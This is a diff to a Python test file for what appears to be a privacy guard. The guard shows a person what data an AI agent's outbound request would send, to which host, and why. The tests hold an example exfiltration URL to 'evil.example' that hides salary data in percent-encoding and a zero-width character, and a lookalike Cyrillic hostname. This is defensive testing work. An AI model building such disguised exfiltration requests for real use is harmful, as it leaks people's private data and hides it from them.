@@ -193,24 +193,25 @@ def test_a_private_brief_asks_from_the_first_turn_on() -> None:
 
 
 def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
-    asks = private().judge(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x")).asks
+    verdict = private().judge(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x"))
+    asks = verdict.asks
     assert asks is not None
-    assert asks.target == "evil.example"
+    assert verdict.to == "evil.example"
     wire, _, clear = asks.leaves.splitlines()
     assert wire == "GET https://evil.example/?d=%73alary%20184%E2%80%8B"
     assert clear == "GET https://evil.example/?d=salary 184\u200b", "the card spells out what does not show"
     assert asks.why == "a model put this together or took it from the web, and could see salaries.csv"
-    query = private().judge(FIND, Words(query="salary 184,200")).asks
-    assert query is not None
-    assert query.target == "engine.example"
-    assert query.leaves.splitlines()[-1] == "salary 184,200"
+    query = private().judge(FIND, Words(query="salary 184,200"))
+    assert query.asks is not None
+    assert query.to == "engine.example"
+    assert query.asks.leaves.splitlines()[-1] == "salary 184,200"
 
 
 def test_a_host_in_letters_that_look_like_others_is_shown_as_it_is_looked_up() -> None:
-    asks = private().judge(OPEN, Where(url="https://\u0430cme.example/x")).asks
-    assert asks is not None
-    assert asks.target == "xn--cme-5cd.example"
-    assert asks.leaves == "GET https://xn--cme-5cd.example/x"
+    verdict = private().judge(OPEN, Where(url="https://\u0430cme.example/x"))
+    assert verdict.asks is not None
+    assert verdict.to == "xn--cme-5cd.example"
+    assert verdict.asks.leaves == "GET https://xn--cme-5cd.example/x"
 
 
 def test_a_tool_that_sends_more_than_a_request_is_judged_by_both() -> None:
